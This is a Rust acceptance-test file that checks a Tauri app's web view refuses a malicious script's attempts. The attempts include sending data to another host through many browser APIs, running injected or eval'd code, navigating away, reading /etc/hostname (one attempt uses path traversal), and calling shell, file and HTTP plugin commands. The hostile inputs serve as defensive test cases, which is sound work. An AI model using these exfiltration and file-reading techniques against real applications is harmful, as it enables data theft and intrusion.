//! What a malicious script in the window would try: every way out is refused.

use std::io::Read as _;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

use acceptance::app_window::AppWindow;
use serde_json::{Value, json};

/// A host that the window must never ask for anything, and how often it was asked. A connection over
/// which nothing was said does not count: the web view may open one before the app is asked.
struct Elsewhere {
    address: String,
    asked: Arc<AtomicUsize>,
}

impl Elsewhere {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let asked = Arc::new(AtomicUsize::new(0));
        let count = Arc::clone(&asked);
        thread::spawn(move || {
            for mut connection in listener.incoming().flatten() {
                let count = Arc::clone(&count);
                thread::spawn(move || {
                    if connection.read(&mut [0; 1]).is_ok_and(|read| read > 0) {
                        count.fetch_add(1, Ordering::SeqCst);
                    }
                });
            }
        });
        Self { address, asked }
    }

    fn asked(&self) -> usize {
        self.asked.load(Ordering::SeqCst)
    }
}

/// Runs the body of an async function in the window. What it throws comes back as `refused`.
async fn attempt(window: &AppWindow, body: &str) -> String {
    let script = format!(
        "const done = arguments[arguments.length - 1];
        (async () => {{ {body} }})().then(
            (value) => done(String(value)), (error) => done('refused: ' + error))"
    );
    let value = window
        .client()
        .execute_async(&script, vec![])
        .await
        .unwrap_or_else(|error| panic!("{error} in {body}"));
    value.as_str().unwrap_or_default().to_owned()
}

/// Loads something by an element; gives `loaded` or throws.
fn element(name: &str, attribute: &str, url: &str) -> String {
    format!(
        "const element = document.createElement('{name}');
        return await new Promise((resolve, reject) => {{
            element.onload = () => resolve('loaded');
            element.onerror = () => reject('error');
            document.addEventListener('securitypolicyviolation', () => reject('policy'), {{ once: true }});
            element.{attribute} = '{url}';
            if ('rel' in element) element.rel = 'stylesheet';
            document.body.append(element);
        }})"
    )
}

/// Opens a frame; throws once the policy refused it. Its own event tells nothing: a frame that was
/// refused is loaded, too, with nothing in it.
fn frame(url: &str) -> String {
    format!(
        "const frame = document.createElement('iframe');
        return await new Promise((resolve, reject) => {{
            document.addEventListener('securitypolicyviolation', () => reject('policy'), {{ once: true }});
            frame.src = '{url}';
            document.body.append(frame);
        }})"
    )
}

/// A sign that is gone once another page was loaded.
async fn mark(window: &AppWindow) {
    window.evaluate("(window.stillHere = true)").await;
}

async fn is_still_there(window: &AppWindow, after: &str) {
    // The answer to a command comes behind whatever was asked of the web view before.
    let answered = attempt(
        window,
        "return (await window.__TAURI__.core.invoke('open_home')).screen",
    )
    .await;
    assert_eq!(answered, "home", "after {after}");
    let here = window
        .evaluate("window.stillHere === true && document.body.dataset.ready")
        .await;
    assert_eq!(here, json!("home"), "after {after}");
}

#[tokio::test]
async fn nothing_is_sent_to_another_host() {
    let window = AppWindow::open().await;
    mark(&window).await;
    let elsewhere = Elsewhere::new();
    let address = &elsewhere.address;
    let url = format!("http://{address}/x");

    let ways = [
        ("fetch", format!("return (await fetch('{url}')).status")),
        (
            "fetch without an answer",
            format!(
                "return (await fetch('{url}', {{ mode: 'no-cors', method: 'POST', body: 'x' }})).type"
            ),
        ),
        (
            "XMLHttpRequest",
            format!(
                "return await new Promise((resolve, reject) => {{
                const request = new XMLHttpRequest();
                request.onload = () => resolve('loaded');
                request.onerror = () => reject('error');
                request.open('GET', '{url}');
                request.send()
            }})"
            ),
        ),
        (
            "WebSocket",
            format!(
                "return await new Promise((resolve, reject) => {{
                const socket = new WebSocket('ws://{address}/x');
                socket.onopen = () => resolve('open');
                socket.onerror = () => reject('error')
            }})"
            ),
        ),
        (
            "EventSource",
            format!(
                "return await new Promise((resolve, reject) => {{
                const source = new EventSource('{url}');
                source.onopen = () => resolve('open');
                source.onerror = () => {{ source.close(); reject('error') }}
            }})"
            ),
        ),
        ("image", element("img", "src", &url)),
        ("script", element("script", "src", &url)),
        ("style sheet", element("link", "href", &url)),
        ("frame", frame(&url)),
        ("object", element("object", "data", &url)),
        ("worker", format!("new Worker('{url}'); return 'made'")),
        (
            "another window",
            format!("if (window.open('{url}') === null) throw 'no window'; return 'opened'"),
        ),
    ];
    for (name, body) in ways {
        let outcome = attempt(&window, &body).await;
        assert!(outcome.starts_with("refused"), "{name}: {outcome}");
    }
    attempt(
        &window,
        &format!("return navigator.sendBeacon('{url}', 'x')"),
    )
    .await;
    is_still_there(&window, "a beacon").await;
    assert_eq!(elsewhere.asked(), 0, "nothing left the window");
}

#[tokio::test]
async fn no_script_runs_that_is_not_a_file_of_the_app() {
    let window = AppWindow::open().await;

    let ways = [
        ("an inline script", "const script = document.createElement('script');
            script.textContent = 'window.ran = true'; document.body.append(script)"),
        ("eval", "window.eval('window.ran = true')"),
        ("a function of text", "new Function('window.ran = true')()"),
        ("a timer of text", "setTimeout('window.ran = true', 0)"),
        ("an attribute", "const button = document.createElement('button');
            button.setAttribute('onclick', 'window.ran = true'); document.body.append(button); button.click()"),
        ("a data address", "const script = document.createElement('script');
            script.src = 'data:text/javascript,window.ran=true'; document.body.append(script)"),
        ("a blob", "const script = document.createElement('script');
            script.src = URL.createObjectURL(new Blob(['window.ran = true'], { type: 'text/javascript' }));
            document.body.append(script)"),
        ("an import of a data address", "await import('data:text/javascript,window.ran=true')"),
        ("an address of script", "const link = document.createElement('a');
            link.href = 'javascript:void(window.ran = true)'; document.body.append(link); link.click()"),
    ];
    for (name, body) in ways {
        attempt(&window, &format!("{body}; return 'tried'")).await;
        attempt(&window, "await new Promise((next) => setTimeout(next, 0)); return (await window.__TAURI__.core.invoke('open_home')).screen").await;
        let ran = window.evaluate("window.ran === undefined").await;
        assert_eq!(ran, json!(true), "{name} ran");
    }
    let frozen = window.evaluate("Object.isFrozen(Object.prototype)").await;
    assert_eq!(frozen, json!(true), "prototypes cannot be changed");
}

#[tokio::test]
async fn the_window_goes_nowhere_but_to_the_apps_own_pages() {
    let window = AppWindow::open().await;
    let elsewhere = Elsewhere::new();
    mark(&window).await;

    let addresses = [
        format!("http://{}/", elsewhere.address),
        "file:///etc/hostname".to_owned(),
        "data:text/html,elsewhere".to_owned(),
        "about:blank".to_owned(),
        "tauri://elsewhere/index.html".to_owned(),
        "sipregistrar://practice".to_owned(),
    ];
    for address in &addresses {
        let ways = [
            format!("location.href = '{address}'"),
            format!("location.replace('{address}')"),
            format!(
                "const link = document.createElement('a'); link.href = '{address}'; document.body.append(link); link.click()"
            ),
            format!(
                "const link = document.createElement('a'); link.href = '{address}'; link.target = '_blank'; document.body.append(link); link.click()"
            ),
            format!(
                "const form = document.createElement('form'); form.action = '{address}'; form.method = 'POST'; document.body.append(form); form.submit()"
            ),
        ];
        for way in &ways {
            attempt(&window, &format!("{way}; return 'tried'")).await;
            is_still_there(&window, way).await;
        }
    }
    assert_eq!(elsewhere.asked(), 0, "nobody was asked for a page");
}

#[tokio::test]
async fn no_file_of_the_computer_is_read() {
    let window = AppWindow::open().await;
    let url = "file:///etc/hostname";

    for (name, body) in [
        (
            "fetch",
            format!("return await (await fetch('{url}')).text()"),
        ),
        (
            "frame",
            format!(
                "const frame = document.createElement('iframe');
                frame.src = '{url}';
                document.body.append(frame);
                await window.__TAURI__.core.invoke('open_home');
                const text = frame.contentDocument?.body?.textContent ?? '';
                if (text === '') throw 'there is nothing in it';
                return text"
            ),
        ),
        ("image", element("img", "src", url)),
        ("script", element("script", "src", url)),
        (
            "the app's own scheme",
            "const answer = await fetch('tauri://localhost/../../../etc/hostname');
            const text = await answer.text();
            if (!answer.ok || text.includes('<!doctype html>')) throw 'no such file';
            return text"
                .to_owned(),
        ),
        (
            "Tauri's scheme of files",
            "return await (await fetch('asset://localhost//etc/hostname')).text()".to_owned(),
        ),
    ] {
        let outcome = attempt(&window, &body).await;
        assert!(outcome.starts_with("refused"), "{name}: {outcome}");
    }
}

#[tokio::test]
async fn only_the_apps_own_commands_are_answered() {
    let window = AppWindow::open().await;

    for command in [
        "plugin:app|version",
        "plugin:dialog|open",
        "plugin:dialog|save",
        "plugin:event|emit",
        "plugin:event|listen",
        "plugin:path|resolve_directory",
        "plugin:resources|close",
        "plugin:webview|create_webview_window",
        "plugin:webview|internal_toggle_devtools",
        "plugin:window|set_title",
        "plugin:fs|read_file",
        "plugin:shell|execute",
        "plugin:http|fetch",
        "no_such_command",
    ] {
        let body =
            format!("return JSON.stringify(await window.__TAURI__.core.invoke('{command}', {{}}))");
        let outcome = attempt(&window, &body).await;
        assert!(
            outcome.contains("not allowed") || outcome.contains("not found"),
            "{command}: {outcome}"
        );
    }
    let unlocked: Value = window
        .evaluate("typeof window.__TAURI_INTERNALS__.invoke")
        .await;
    assert_eq!(unlocked, json!("function"), "it was asked for");
}
